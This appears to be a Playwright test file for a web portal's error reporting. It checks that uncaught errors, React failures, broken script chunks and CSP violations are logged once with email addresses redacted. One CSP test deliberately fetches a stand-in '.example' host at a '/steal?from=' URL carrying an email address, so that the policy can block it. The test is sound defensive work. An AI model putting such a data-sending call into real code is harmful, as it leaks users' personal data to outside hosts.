import type { Page } from '@playwright/test';
import { expect, personaEmail, test } from '../e2e/support/portal-test.ts';
import { database } from '../support/admin.ts';

const ADDRESS = 'ada.lovelace@example.com';

/** A word that no other error contains. */
const newMark = () =>
  `Mark${[...crypto.getRandomValues(new Uint8Array(8))].map((byte) => String.fromCharCode(97 + (byte % 26))).join('')}`;

async function storedWith(mark: string) {
  const { docs } = await database.collection('error_reports').get();
  return docs.map((document) => document.data()).filter(({ message }) => message.includes(mark));
}

/** Waits for the error, then for a later one of the same page, so that a second report of the first would be there too. */
async function expectOnce(page: Page, mark: string, stored: object) {
  await expect.poll(() => storedWith(mark)).toHaveLength(1);
  const last = newMark();
  await page.evaluate((text) => void setTimeout(() => Promise.reject(new Error(text))), last);
  await expect.poll(() => storedWith(last)).toHaveLength(1);
  const found = await storedWith(mark);
  expect(found).toMatchObject([{ count: 1, ...stored }]);
  expect(JSON.stringify(found)).not.toContain(ADDRESS);
}

/** A part of every public page, which is loaded late. */
const PART = /\/assets\/cookie-bar-[^/]+\.js$/;

/** Replaces the exports of a built script by components that run this code. */
async function replacePart(page: Page, code: string) {
  await page.route(PART, async (route) => {
    const response = await route.fetch();
    const exported = [...(await response.text()).matchAll(/\bas (\w+)(?=[,}])/g)].map(
      ([, name]) => `failing as ${name}`,
    );
    await route.fulfill({ response, body: `const failing = () => { ${code} };\nexport { ${exported.join(', ')} };` });
  });
}

test.beforeEach(({ tolerate }) =>
  tolerate(/mark[a-z]{8}|A boundary catches this|React error #4(?:18|22)|could not be loaded/i),
);

test('an uncaught error is reported', async ({ page }) => {
  const mark = newMark();
  await page.goto('/about');
  await page.evaluate(
    (text) =>
      void setTimeout(() => {
        throw new TypeError(text);
      }),
    `${mark} of ${ADDRESS}`,
  );
  await expectOnce(page, mark, {
    kind: 'uncaught',
    message: `TypeError: ${mark} of [email]`,
    path: '/about',
    browser: 'Chrome',
    version: expect.stringMatching(/^[\da-f]{12}$|^unknown$/),
  });
});

test('an unhandled rejection is reported', async ({ page }) => {
  const mark = newMark();
  await page.goto('/about');
  await page.evaluate((text) => void setTimeout(() => Promise.reject(new Error(text))), `${mark} of ${ADDRESS}`);
  await expectOnce(page, mark, { kind: 'unhandled-rejection', message: `Error: ${mark} of [email]` });
});

test('an error that a boundary catches is reported, with its stack', async ({ page }) => {
  const mark = newMark();
  await replacePart(page, `throw new TypeError('${mark} of ${ADDRESS}');`);
  await page.goto('/about');
  await expectOnce(page, mark, {
    kind: 'react-caught',
    message: `TypeError: ${mark} of [email]`,
    stack: expect.stringMatching(/^at .*\/assets\/cookie-bar-/),
  });
});

test('an error that no boundary catches is reported', async ({ page }) => {
  const mark = newMark();
  const broken = `document.createElement = () => { throw new TypeError('${mark} of ${ADDRESS}'); };`;
  await replacePart(page, `${broken} throw new TypeError('A boundary catches this');`);
  await page.goto('/about');
  await expectOnce(page, mark, { kind: 'react-uncaught', message: `TypeError: ${mark} of [email]` });
});

test('a script that fails is reported, also if no later script loads', async ({ page }) => {
  const mark = newMark();
  await page.route(/\/assets\/(?!main)[^/]+\.js$/, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `throw new Error('${mark} of ${ADDRESS}')` }),
  );
  await page.goto('/ip-marketplace');
  await expectOnce(page, mark, {
    kind: 'failed-chunk',
    message: `Error: ${mark} of [email]`,
    path: '/ip-marketplace',
  });
});

test('a prerendered page that React had to render again is reported', async ({ page }) => {
  const path = '/services/ip-valuation';
  await page.route(`**${path}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</h1>', ' and more</h1>') });
  });
  await page.goto(path);
  await page.getByRole('heading', { level: 1 }).click();
  await expect.poll(async () => (await storedWith('#418')).map(({ kind }) => kind)).toContain('react-recovered');
});

test('a violation of the content security policy is reported, with the origin alone', async ({ page }) => {
  const host = `${newMark().toLowerCase()}.example`;
  await page.goto('/about');
  await page.evaluate((url) => void fetch(url).catch(() => undefined), `https://${host}/steal?from=${ADDRESS}`);
  await expectOnce(page, host, {
    kind: 'csp',
    message: `connect-src blocked https://${host}`,
    path: '/about',
    stack: '',
  });
});

test('an admin sees the latest errors', async ({ page, openAs }) => {
  const mark = newMark();
  await page.goto('/about');
  await page.evaluate((text) => void setTimeout(() => Promise.reject(new RangeError(text))), `${mark} of ${ADDRESS}`);
  await expect.poll(() => storedWith(mark)).toHaveLength(1);
  await openAs(personaEmail('demo-admin'), '/admin?tab=errors');
  const row = page.getByRole('grid', { name: 'errors' }).getByRole('row').filter({ hasText: mark });
  await expect(row).toContainText('Unhandled rejection');
  await row.getByRole('link', { name: `RangeError: ${mark} of [email]` }).click();
  await expect(page.locator('pre')).toContainText(/^at /);
});
